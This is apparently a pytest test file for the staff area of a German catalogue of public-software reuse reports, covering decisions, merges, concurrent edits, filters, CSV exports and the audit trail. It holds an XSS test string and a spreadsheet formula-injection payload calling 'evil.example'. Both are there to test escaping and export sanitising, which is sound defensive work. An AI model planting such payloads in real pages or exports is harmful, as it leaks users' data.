"""One report at the office: everything known of it, its history in words, and each thing that can be done."""

import csv
import io
from dataclasses import replace

import pytest
from html_page import Page
from office import COLOGNE, HALLE, MAGDEBURG, MAIL, NOW, Office, a_claim, confirmed
from page_checks import check_page

from catalogue.domain.access import Role
from catalogue.domain.reuse import Stage, Step, What
from catalogue.domain.reuse_report import Action, Source, State, Visibility
from catalogue.storage.events import Entered, Subject, enter
from catalogue.storage.keys import Purpose, make_key
from catalogue.storage.reuse_book import Overtaken, expect_unchanged


def page_of(answer) -> Page:
    return Page(
        answer.text, status=answer.status_code, headers=answer.headers, address=answer.request.full_path
    )


def fields_of(office: Office, path: str) -> dict[str, str]:
    """What a form of the office holds before anybody types anything."""
    form = office.page(path).one("form", class_="office-form--page")
    fields = {field["name"]: field.get("value") for field in form.all("input") if not field.get("type")}
    fields |= {field["name"]: field.text for field in form.all("textarea")}
    for field in form.all("select"):
        chosen = [option for option in field.all("option") if "selected" in option.attributes]
        fields[field["name"]] = chosen[0]["value"] if chosen else ""
    return fields


def text(office: Office, number: int) -> str:
    return office.page(f"/office/reports/{number}").main.text


def test_a_report_shows_what_it_says_and_what_is_known(office: Office) -> None:
    claim = a_claim(
        what=What.MODULE, part="Baumkataster", version="2.1", operator="Dataport",
        address="https://plan.example.org/", obstacles="<script>alert(1)</script>", contact="gis@example.org",
    )  # fmt: skip
    number = office.add(claim, email=MAIL)

    page = office.page(f"/office/reports/{number}")

    assert page.heading == "Magdeburg – HAL-Plan"
    for words in ("ein Teil: Baumkataster", "2.1", "Dataport", MAIL, "gis@example.org", "Eintrag nennt sie"):
        assert words in page.main.text
    assert "<script>alert(1)</script>" in page.main.text  # as text, not as an element
    assert page.link("https://plan.example.org/") == "https://plan.example.org/"


def test_a_reader_sees_that_an_address_is_kept_and_not_which(office: Office) -> None:
    number = office.add(a_claim(contact="gis@example.org"), email=MAIL)
    office.role = Role.READER

    page = office.page(f"/office/reports/{number}")

    assert "@" not in page.main.text
    assert "hinterlegt" in page.main.text


def test_only_what_the_office_has_confirmed_is_called_confirmed(office: Office) -> None:
    number = office.add(email=MAIL, affirmed_at=NOW)

    assert "zuletzt bestätigt" not in text(office, number)
    office.decide(number, "confirm")
    assert "zuletzt bestätigt am" in text(office, number)


def test_that_nobody_else_names_the_town_is_said_while_the_catalogue_still_shows_what_others_say(
    office: Office,
) -> None:
    number = office.add(a_claim(body=COLOGNE))
    nobody = "Weder der Eintrag noch eine publiccode.yml nennt diese Kommune"

    assert nobody in text(office, number)
    office.decide(number, "confirm")  # from now on the report stands in the place of all that others say
    assert nobody not in text(office, number)


def test_a_rejection_needs_a_reason_and_tells_it(office: Office) -> None:
    number = office.add(email=MAIL)

    refused = office.decide(number, "reject", reason="  ")
    assert refused.status_code == 400
    assert "Es fehlt der Grund" in refused.text
    assert office.report(number).state is State.PENDING

    office.decide(number, "reject", reason="Die Adresse führt zu einer anderen Stadt.")
    assert "Die Adresse führt zu einer anderen Stadt." in text(office, number)
    (mail,) = office.mails()
    assert "Die Adresse führt zu einer anderen Stadt." in str(mail["text"])
    assert office.changed == [frozenset({"hal-plan"})]
    assert office.delivered == 1


def test_a_decision_can_be_undone_and_decided_anew(office: Office) -> None:
    number = office.add()

    office.decide(number, "reject", reason="Irrtum.")
    office.decide(number, "undo")
    assert office.report(number).state is State.PENDING
    office.decide(number, "confirm")
    assert office.report(number).state is State.CONFIRMED

    assert [event.action for event in office.store.reuse.history(number)] == [
        *(Action.SUBMITTED, Action.REJECTED, Action.UNDONE, Action.CONFIRMED)
    ]
    shown = text(office, number)
    assert "Editha Beispiel: rückgängig gemacht" in shown
    assert "Bearbeitung: abgelehnt → jetzt: zu bestätigen" in shown


def test_somebody_rang_and_said_that_it_is_still_true(office: Office) -> None:
    number = office.add(**confirmed(NOW.replace(year=2025)))

    assert office.decide(number, "affirm", reason="").status_code == 400
    office.decide(number, "affirm", reason="Anruf des Amts für Digitales.")

    assert office.report(number).affirmed_at == NOW
    assert "gilt weiter – Anruf des Amts für Digitales." in text(office, number)


def test_two_reports_are_merged_and_both_say_so(office: Office) -> None:
    first = office.add(a_claim(steps=(Step(stage=Stage.TRIAL, since="2024"),)))
    second = office.add(**confirmed())

    office.decide(first, "merge", into=f"#{second}")

    assert office.report(first).merged_into == second
    assert [step.stage for step in office.report(second).claim.steps] == [Stage.TRIAL, Stage.IN_USE]
    assert f"zusammengeführt mit Meldung {second}" in text(office, first)
    assert office.page("/office/work/pending").all("li", class_="work-row") == []

    office.decide(first, "undo")
    assert office.report(first).state is State.PENDING
    assert [step.stage for step in office.report(second).claim.steps] == [Stage.IN_USE]
    assert office.store.reuse.history(second)[-1].action is Action.UNDONE


def test_undoing_a_merge_leaves_what_was_written_since(office: Office) -> None:
    first = office.add(a_claim(steps=(Step(stage=Stage.TRIAL, since="2024"),)))
    second = office.add(**confirmed())
    office.decide(first, "merge", into=f"#{second}")
    office.decide(second, "affirm", reason="Anruf des Amts.")

    office.decide(first, "undo")

    assert office.report(first).state is State.PENDING
    assert [step.stage for step in office.report(second).claim.steps] == [Stage.TRIAL, Stage.IN_USE]


@pytest.mark.parametrize("into", ["", "x", "999", "-1", "9" * 40])
def test_merging_with_nothing_is_refused_with_words(office: Office, into: str) -> None:
    number = office.add()

    answer = office.decide(number, "merge", into=into)

    assert answer.status_code == 400
    assert "Diese Meldung gibt es nicht." in answer.text


def test_a_report_is_corrected_in_all_its_fields(office: Office) -> None:
    number = office.add(**confirmed())
    page = office.page(f"/office/reports/{number}/correct")
    typed = {node["name"]: node.get("value") for node in page.all("input") if "name" in node.attributes}
    assert typed["in_use"] == "2025-05"

    answer = office.send(
        f"/office/reports/{number}/correct", solution="CIVITAS/CORE", body="Köln", trial="3/2024",
        in_use="17.05.2025", what="adapted", visibility="unnamed", seen=office.seen(number),
        reason="Verwechselt",
    )  # fmt: skip

    assert answer.status_code == 303
    claim = office.report(number).claim
    assert (claim.solution, claim.body, claim.what) == ("civitas-core", COLOGNE, What.ADAPTED)
    assert claim.visibility is Visibility.UNNAMED
    assert [step.since for step in claim.steps] == ["2024-03", "2025-05-17"]
    assert office.changed == [frozenset({"hal-plan", "civitas-core"})]


def test_what_was_typed_stays_where_something_is_wrong(office: Office) -> None:
    number = office.add()

    answer = office.send(
        f"/office/reports/{number}/correct", solution="hal-plan", body="Neustadt", in_use="bald",
        obstacles="Viel Abstimmung", seen=office.seen(number),
    )  # fmt: skip

    assert answer.status_code == 400
    assert "„bald“ ist kein Datum." in answer.text
    assert "Viel Abstimmung" in answer.text
    assert 'value="Neustadt"' in answer.text
    assert "Meinten Sie" in answer.text


def test_steps_that_a_form_cannot_show_are_kept_when_something_else_is_corrected(office: Office) -> None:
    steps = tuple(
        Step(stage=stage, since=since)
        for stage, since in ((Stage.TRIAL, "2020"), (Stage.ENDED, "2021"), (Stage.TRIAL, "2025"))
    )
    number = office.add(a_claim(steps=steps))
    page = office.page(f"/office/reports/{number}/correct")
    typed = {
        node["name"]: node.get("value")
        for node in page.all("input")
        if node.get("type") not in ("hidden", "checkbox", "search") and "name" in node.attributes
    }

    office.send(f"/office/reports/{number}/correct", **{**typed, "version": "3", "seen": office.seen(number)})

    claim = office.report(number).claim
    assert (claim.steps, claim.version) == (steps, "3")


def test_a_correction_of_what_somebody_else_changed_meanwhile_is_shown_again(office: Office) -> None:
    number = office.add()
    seen = office.seen(number)
    report = office.report(number)
    office.store.reuse.keep(
        replace(report, claim=replace(report.claim, version="9")),
        action=Action.CHANGED, actor="reporter", now=NOW,
    )  # fmt: skip

    path = f"/office/reports/{number}/correct"
    typed = {**fields_of(office, path), "in_use": "2025", "version": ""}

    answer = office.send(path, **{**typed, "seen": seen})

    page = page_of(answer)
    assert answer.status_code == 409
    assert office.report(number).claim.version == "9"
    assert "Noch nicht gespeichert" in page.main.text
    assert "Version: 9" in page.main.text
    assert (
        page.one("input", id="field-version")["value"],
        page.one("input", id="field-in_use")["value"],
    ) == (
        "9",
        "2025",
    )

    again = {name: page.one("input", name=name)["value"] for name in ("seen", "version", "in_use")}
    office.send(path, **{**typed, **again})

    claim = office.report(number).claim
    assert (claim.version, claim.steps[0].since) == ("9", "2025")


def test_a_second_correction_from_an_old_page_is_not_taken_for_the_first_one(office: Office) -> None:
    number = office.add()
    path = f"/office/reports/{number}/correct"
    typed = {**fields_of(office, path), "seen": office.seen(number)}

    office.send(path, **{**typed, "version": "3"})
    twice = office.send(path, **{**typed, "version": "3"})
    other = office.send(path, **{**typed, "version": "4"})

    assert (twice.status_code, other.status_code) == (303, 409)
    assert office.report(number).claim.version == "3"
    assert page_of(other).one("input", id="field-version")["value"] == "4"


# What two officials do with the same page before them: the first, the second, what the second one reads.
CROSSED = [
    ({"do": "confirm"}, {"do": "reject", "reason": "Kein Nachweis."}, "Ada Verwaltung: bestätigt"),
    ({"do": "reject", "reason": "Ein Scherz."}, {"do": "confirm"}, "Ada Verwaltung: abgelehnt"),
    ({"do": "confirm"}, {"do": "merge", "into": "2"}, "Ada Verwaltung: bestätigt"),
    ({"do": "merge", "into": "2"}, {"do": "confirm"}, "Ada Verwaltung: zusammengeführt"),
    ({"do": "merge", "into": "2"}, {"do": "merge", "into": "2"}, "Ada Verwaltung: zusammengeführt"),
    ({"do": "reject", "reason": "Ein Scherz."}, {"do": "undo"}, "Ada Verwaltung: abgelehnt"),
    ({"do": "reject", "reason": "Ein Scherz."}, {"do": "revoke"}, "Ada Verwaltung: abgelehnt"),
]


@pytest.mark.parametrize(("first", "second", "expected"), CROSSED)
def test_who_comes_second_changes_nothing_and_reads_what_happened(
    office: Office, first: dict[str, str], second: dict[str, str], expected: str
) -> None:
    number, _ = office.add(email=MAIL), office.add(a_claim(version="2"))
    page, seen = f"/office/reports/{number}", office.seen(number)

    office.account = 8
    assert office.send(page, seen=seen, **first).status_code == 303
    as_it_is = office.report(number)
    office.account = 7
    answer = office.send(page, seen=seen, **second)

    shown = page_of(answer)
    check_page(shown, "de")
    assert answer.status_code == 409
    assert office.report(number) == as_it_is
    assert expected in shown.one("div", role="alert").text
    if as_it_is.state is State.CONFIRMED and second["do"] == "reject":
        assert shown.one("textarea", id="reason-reject").text == "Kein Nachweis."


def test_what_an_official_did_cannot_be_undone_from_a_page_that_is_older(office: Office) -> None:
    number = office.add(email=MAIL)
    office.decide(number, "confirm")
    seen = office.seen(number)
    office.account = 8
    office.decide(number, "affirm", reason="Anruf.")
    office.account = 7

    answer = office.send(f"/office/reports/{number}", do="undo", seen=seen)

    assert answer.status_code == 409
    assert "Ada Verwaltung: gilt weiter" in page_of(answer).one("div", role="alert").text
    assert office.report(number).state is State.CONFIRMED


def test_merging_into_what_was_rejected_meanwhile_says_which_of_the_two_it_is(office: Office) -> None:
    number, other = office.add(), office.add(a_claim(version="2"))
    office.decide(other, "reject", reason="Ein Scherz.")

    answer = office.decide(number, "merge", into=str(other))

    page = page_of(answer)
    assert answer.status_code == 400
    assert "Die andere Meldung ist abgelehnt" in page.one("span", id="merge-into-error").text
    assert page.one("input", id="merge-into")["value"] == str(other)
    assert office.report(number).state is State.PENDING


def test_a_merge_is_not_kept_where_the_other_report_changes_at_the_same_moment(office: Office) -> None:
    number, other = office.add(), office.add(a_claim(version="2"))
    report, read_before = office.report(number), office.report(other)
    office.decide(other, "reject", reason="Ein Scherz.")

    with pytest.raises(Overtaken):
        office.store.reuse.keep(
            replace(report, state=State.MERGED, merged_into=other),
            action=Action.MERGED, actor="office:7", now=NOW,
            also=lambda connection, _: expect_unchanged(connection, read_before),
        )  # fmt: skip

    assert office.report(number) == report


def test_merging_twice_into_different_reports_is_told(office: Office) -> None:
    number, second, third = (office.add(a_claim(version=str(place))) for place in range(3))
    seen = office.seen(number)

    office.send(f"/office/reports/{number}", do="merge", seen=seen, into=str(second))
    twice = office.send(f"/office/reports/{number}", do="merge", seen=seen, into=str(second))
    answer = office.send(f"/office/reports/{number}", do="merge", seen=seen, into=str(third))

    assert (twice.status_code, answer.status_code) == (303, 409)
    assert office.report(number).merged_into == second


def test_the_form_to_merge_names_what_may_stay(office: Office) -> None:
    number, other, elsewhere = office.add(), office.add(), office.add(a_claim(body=COLOGNE))

    page = office.page(f"/office/reports/{number}")

    assert page.one("input", id="merge-into")["value"] == str(other)
    links = [link["href"] for link in page.one("ul", class_="office-same").all("a")]
    assert links == [f"/de/office/reports/{other}"]
    assert not office.page(f"/office/reports/{elsewhere}").all("ul", class_="office-same")


def test_a_reason_that_is_missing_is_asked_for_where_it_is_typed(office: Office) -> None:
    number = office.add(email=MAIL)

    page = page_of(office.decide(number, "reject", reason=" "))

    field = page.one("textarea", id="reason-reject")
    assert field["aria-invalid"] == "true"
    assert "Es fehlt der Grund" in page.one("span", id="reason-reject-error").text
    assert "reason-reject-error" in field["aria-describedby"].split()


def test_before_the_mail_is_confirmed_there_is_nothing_to_decide(office: Office) -> None:
    number = office.add(state=State.UNCONFIRMED)

    page = office.page(f"/office/reports/{number}")

    assert "Die Mailadresse ist noch nicht bestätigt" in page.main.text
    assert not page.all("input", name="do")


def test_the_office_enters_a_reuse_of_its_own_once(office: Office) -> None:
    ticket = office.ticket()
    fields = {"solution": "hal-plan", "body": "Halle (Saale)", "in_use": "2023", "ticket": ticket}

    assert "Es fehlt der Grund" in office.send("/office/reports/new", **fields).text
    for _ in range(2):
        office.send("/office/reports/new", **fields, reason="Umfrage Dezember 2025")

    (report,) = office.store.reuse.about(["hal-plan"])
    assert (report.state, report.source, report.claim.body) == (State.CONFIRMED, Source.OFFICE, HALLE)
    assert office.changed == [frozenset({"hal-plan"})]
    (event,) = office.store.reuse.history(report.number)
    assert (event.actor, event.reason) == ("office:7", "Umfrage Dezember 2025")


def test_the_link_of_a_reporter_is_revoked(office: Office) -> None:
    number = office.add(email=MAIL)
    with office.store._engine.begin() as connection:
        secret = make_key(connection, Purpose.RECEIPT, number, NOW)

    office.decide(number, "revoke")

    key = office.store.keys.find(Purpose.RECEIPT, secret)
    assert key is not None
    assert not key.opens(NOW)
    assert "Link der meldenden Stelle gesperrt" in text(office, number)


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        ("/office/reports/1", {"do": "explode", "seen": "1.1"}),
        ("/office/reports/1", {"do": "confirm", "seen": "2.1"}),
        ("/office/reports/1", {"do": "confirm", "seen": "1"}),
        ("/office/reports/1", {"do": "confirm", "seen": "1." + "9" * 40}),
        ("/office/decide", {"one": "confirm:x.y"}),
        ("/office/decide", {"one": "explode:1.1"}),
        ("/office/decide", {"do": "confirm", "chosen": "1"}),
    ],
)
def test_a_form_that_was_tampered_with_does_nothing(office: Office, path: str, fields) -> None:
    number = office.add()

    answer = office.send(path, **fields)

    assert answer.status_code == 400
    assert office.report(number).state is State.PENDING


@pytest.mark.parametrize("number", ["0", "999", "99999999999999999999"])
def test_a_report_that_is_not_there_is_not_found(office: Office, number: str) -> None:
    assert office.client.get(f"/de/office/reports/{number}").status_code == 404
    assert office.client.get(f"/de/office/reports/{number}/correct").status_code == 404


# --- All reports


def numbers(office: Office, query: str) -> list[int]:
    page = office.page(f"/office/reports?{query}")
    bodies = page.all("tbody")
    return [int(row.all("th")[0].text) for row in bodies[0].all("tr")] if bodies else []


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", [4, 3, 2, 1]),
        ("sort=oldest", [1, 2, 3, 4]),
        ("sort=body", [3, 1, 4, 2]),
        ("state=confirmed", [4]),
        ("state=nonsense", [4, 3, 2, 1]),
        ("source=upload", [2]),
        ("land=15", [4, 1]),
        ("land=01", [2]),  # an organisation of this Land
        ("solution=civitas-core", [2]),
        ("body=15003000", [4, 1]),
        ("q=magdeburg", [4, 1]),
        ("q=koeln", [3]),
        ("q=civitas", [2]),
        ("q=baumkat", [3]),
        ("q=%23" + "2", [2]),
        ("q=claim.version", []),  # only what people wrote is searched
        ("q=%25", []),
        ("state=confirmed&land=05", []),
    ],
)
def test_reports_are_filtered_and_ordered(office: Office, query: str, expected: list[int]) -> None:
    office.add()
    office.add(a_claim(body="kielregion", solution="civitas-core"), source=Source.UPLOAD)
    office.add(a_claim(body=COLOGNE, part="Baumkataster"))
    office.add(**confirmed())

    assert numbers(office, query) == expected


def exported(office: Office, path: str, lang: str = "de") -> list[list[str]]:
    answer = office.client.get(f"/{lang}{path}")
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\n="])
def test_exports_hold_no_formula_and_no_mail_address(office: Office, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example?"&A1)'
    claim = a_claim(
        part=evil, version=evil, operator=f"Amt, amt@example.org {MAIL}", contact="gis@example.org"
    )
    number = office.add(claim, email=MAIL)
    office.decide(number, "reject", reason=f"{evil.strip()} {MAIL}")

    for path in ("/office/reports.csv", "/office/audit.csv"):
        rows = exported(office, path)
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in cells)
        assert not any("@" in cell and "example.org" in cell for cell in cells)


def test_the_export_of_reports_has_what_the_filter_asks_for(office: Office) -> None:
    office.add()
    office.add(a_claim(body=COLOGNE), **confirmed())

    head, *rows = exported(office, "/office/reports.csv?state=confirmed")

    assert [row[head.index("Kommune")] for row in rows] == ["Köln"]
    assert [row[head.index("Stufe")] for row in rows] == ["im Betrieb"]


@pytest.mark.parametrize("lang", ["de", "en"])
def test_dates_of_exports_are_dates_to_a_spreadsheet_in_either_language(office: Office, lang: str) -> None:
    late = NOW.replace(hour=23, minute=30)  # in Germany it is the next day
    office.add(at=late, **confirmed(late))

    head, row = exported(office, "/office/reports.csv", lang)
    trail_head, *trail = exported(office, "/office/audit.csv", lang)

    named = dict(zip(head, row, strict=True))
    reported, confirmed_at = (
        ("Gemeldet", "Zuletzt bestätigt") if lang == "de" else ("Reported", "Last confirmed")
    )
    assert (named[reported], named[confirmed_at]) == ("2026-11-21", "2026-11-21")
    assert {one[0] for one in trail} == {"2026-11-21 00:30:00"}
    for name in (*head, *trail_head):
        assert name
        assert name == name.strip()
    assert len(set(head)) == len(head)


# --- The audit trail


def test_the_audit_trail_tells_who_did_what_in_words_and_can_be_filtered(office: Office) -> None:
    number = office.add(a_claim(contact="gis@example.org"), email=MAIL)
    office.add(a_claim(body=COLOGNE))
    office.decide(number, "confirm")
    office.now = NOW.replace(day=25)
    office.account = 8
    office.decide(number, "reject", reason="Doch nicht.")

    page = office.page("/office/audit")
    assert "@" not in page.main.text
    assert "Ada Verwaltung: abgelehnt · Meldung 1 – Doch nicht." in page.main.text
    assert "Bearbeitung: bestätigt → jetzt: abgelehnt" in page.main.text

    def count(query: str) -> int:
        return len(office.page(f"/office/audit?{query}").all("li", class_="timeline__event"))

    assert count("") == 4
    assert count("number=1") == 3
    assert count("actor=office:8") == 1
    assert count("actor=reporter") == 2
    assert count("subject=account") == 0
    assert count("since=2026-11-25") == 1
    assert count("until=2026-11-20") == 3
    assert count("since=gestern&number=x") == 4


def test_the_exported_trail_is_whole_and_starts_at_the_beginning(office: Office) -> None:
    for _ in range(30):
        office.add()

    head, *rows = exported(office, "/office/audit.csv")

    column = head.index("Nummer")
    assert list(dict.fromkeys(row[column] for row in rows)) == [str(n) for n in range(1, 31)]


def test_a_reader_may_not_export_the_trail(office: Office) -> None:
    office.role = Role.READER

    assert office.client.get("/de/office/audit.csv").status_code == 403


def test_the_audit_trail_has_a_word_for_whatever_is_noted(office: Office) -> None:
    noted = [
        (Subject.ACCOUNT, "made", {"login": (None, "edda"), "role": (None, "editor")}),
        (Subject.ACCOUNT, "role-changed", {"role": ("editor", "administrator")}),
        *((Subject.ACCOUNT, name, {}) for name in ("login", "password-changed", "disabled", "enabled")),
        (Subject.ACCOUNT, "throttled", {"failed": (0, 7)}),
        (Subject.HINT, "submitted", {"state": (None, "open"), "body": (None, MAGDEBURG)}),
        (Subject.HINT, "closed", {"state": ("open", "dismissed")}),
        (Subject.SUBSCRIPTION, "subscribed", {"channel": (None, "mail")}),
        (Subject.SUBSCRIPTION, "confirmed", {"standing": ("unconfirmed", "active")}),
        *((Subject.SUBSCRIPTION, name, {}) for name in ("changed", "secret-renewed", "stopped")),
        *((Subject.MESSAGE, name, {}) for name in ("retry", "give-up")),
    ]
    with office.store._engine.begin() as connection:
        for subject, action, changes in noted:
            actor = "reader" if subject is Subject.HINT else "subscriber"
            line = Entered(subject=subject, number=1, at=NOW, actor=actor, action=action, changes=changes)
            enter(connection, line)

    shown = office.page("/office/audit").main.text

    codes = {"reader", "subscriber", "editor", "administrator", "standing", "channel", "open", "active"}
    codes |= {"message", "dismissed", "unconfirmed", MAGDEBURG, *(action for _, action, _ in noted)}
    assert not codes & set(shown.replace(":", " ").split())
    assert "Kommune: Magdeburg" in shown
    assert "20.11.2026, 13:00" in shown
